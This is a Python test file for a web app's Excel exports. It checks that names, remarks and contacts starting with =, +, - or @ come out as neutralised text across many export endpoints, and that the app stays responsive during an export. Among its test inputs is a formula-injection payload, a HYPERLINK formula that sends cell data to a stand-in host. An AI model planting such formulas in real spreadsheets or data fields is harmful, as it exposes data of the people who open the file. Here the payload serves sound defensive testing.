"""Every domain's Excel exports through HTTP (audit item 4): names and remarks that start with
=, +, - or @ come back as neutralised text, never as a formula; and an export is built off the
event loop (item 3), so the app answers /healthz while a workbook is being written."""

from __future__ import annotations

import io

from openpyxl import Workbook, load_workbook

from server.core import xlsx
from server.credit.services import documents as credit_docs
from server.inventory.services import documents as stock_docs
from server.masterdata.services import codes, dictionaries, suppliers, trees, warehouses
from server.queue.services import setup
from server.system.services import users
from tests.api_helpers import call
from tests.masterdata.helpers import basics, make_goods
from tests.system.helpers import service_org, service_user
from tests.xlsx_helpers import Gate, healthz_while_held

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SHORT = '=HYPERLINK("http://e.x","go")'  # where names may have at most 30 characters
PLUS, MINUS, AT = "+1", "-2", "@SUM(A1)"


def neutral(text: str) -> str:
    return "'" + text


async def hostile_world(client, admin, ctx) -> dict:
    """Something in every domain whose name (and contact, spec, remark…) starts a formula."""
    b = await basics(ctx)
    await trees.create(ctx, "category", {"name": AT, "parent_id": b["apple"]})
    await codes.create(
        ctx, "repair_code", {"code": "R1", "name": HYPERLINK, "category_id": b["iphone"], "repair_class_id": b["lcd"]}
    )
    item = await make_goods(ctx, "G1", b["iphone15"], name=HYPERLINK, spec=AT, unit=PLUS)
    store = await warehouses.create(ctx, {"code": "W1", "name": HYPERLINK, "type": "general"})
    await warehouses.assign(ctx, [store["id"]], [ctx.org_id])
    await suppliers.create(ctx, {"code": "S1", "name": HYPERLINK, "contact": AT, "phone": PLUS})
    await dictionaries.create(ctx, "service_type", {"code": "D1", "name": HYPERLINK})
    branch = await service_org(ctx, "B1", ctx.org_id, level=2, name=HYPERLINK, contact=PLUS, address=AT)
    user = await service_user(ctx, "clerk1", branch["id"], "branch", [])
    await users.update(ctx, user.user_id, {"name": HYPERLINK})
    doc = await stock_docs.create(
        ctx,
        "inbound",
        {
            "type": "purchase",
            "warehouse_id": store["id"],
            "remark": MINUS,
            "lines": [{"goods_id": item["id"], "qty": 3, "cost_price": "1"}],
        },
    )
    await stock_docs.submit(ctx, "inbound", doc["id"])
    await stock_docs.confirm(ctx, "inbound", doc["id"])
    credit = await credit_docs.create(
        ctx, "recharge", {"lines": [{"org_id": branch["id"], "amount": "100", "remark": AT}]}
    )
    await credit_docs.submit(ctx, "recharge", credit["id"])
    await credit_docs.confirm(ctx, "recharge", credit["id"])
    service = await setup.create_service(ctx, {"name": SHORT, "prefix": "A"})
    await call(client, "POST", "/api/v1/queue/tickets", admin, {"service_id": service["id"], "phone": ""}, 201)
    return {"branch": branch["id"]}


def sheet_cells(content: bytes) -> list:
    return [cell for row in load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row]


async def test_every_export_writes_formula_starts_as_neutralised_text(client, admin, tenant):
    world = await hostile_world(client, admin, tenant)
    exports = {
        "/api/v1/categories/export": {neutral(AT)},
        "/api/v1/repair-codes/export": {neutral(HYPERLINK)},
        "/api/v1/goods/export": {neutral(HYPERLINK), neutral(AT), neutral(PLUS)},
        "/masterdata/goods/export": {neutral(HYPERLINK), neutral(AT), neutral(PLUS)},
        "/api/v1/warehouses/export": {neutral(HYPERLINK)},
        "/api/v1/warehouse-assignments/export": {neutral(HYPERLINK)},
        "/api/v1/suppliers/export": {neutral(HYPERLINK), neutral(AT), neutral(PLUS)},
        "/api/v1/dictionaries/service_type/export": {neutral(HYPERLINK)},
        "/api/v1/orgs/export": {neutral(HYPERLINK), neutral(AT), neutral(PLUS)},
        "/api/v1/users/export": {neutral(HYPERLINK)},
        "/api/v1/inbounds/export": {neutral(HYPERLINK), neutral(MINUS), neutral(PLUS)},
        "/api/v1/stock/export": {neutral(HYPERLINK), neutral(PLUS)},
        "/credit/accounts/export": {neutral(HYPERLINK)},
        f"/credit/accounts/{world['branch']}/export?tab=entries": {neutral(AT)},
        "/api/v1/queue/stats/export": {neutral(SHORT)},
    }
    for url, expected in exports.items():
        response = await client.get(url, headers=admin)
        assert response.status_code == 200, (url, response.text)
        cells = sheet_cells(response.content)
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], url
        texts = {c.value for c in cells if isinstance(c.value, str)}
        assert expected <= texts, (url, expected - texts)
        assert not [t for t in texts if t.startswith(xlsx.FORMULA_STARTS)], url


async def test_the_app_answers_while_an_export_is_written(client, admin, tenant, monkeypatch):
    b = await basics(tenant)
    await make_goods(tenant, "G1", b["iphone15"])
    gate = Gate(monkeypatch, Workbook, "save")
    response = healthz_while_held(client, gate, "GET", "/api/v1/goods/export", headers=admin)
    assert response.status_code == 200, response.text
    assert [c.value for c in sheet_cells(response.content)][:2] == ["货品编码", "货品名称"]
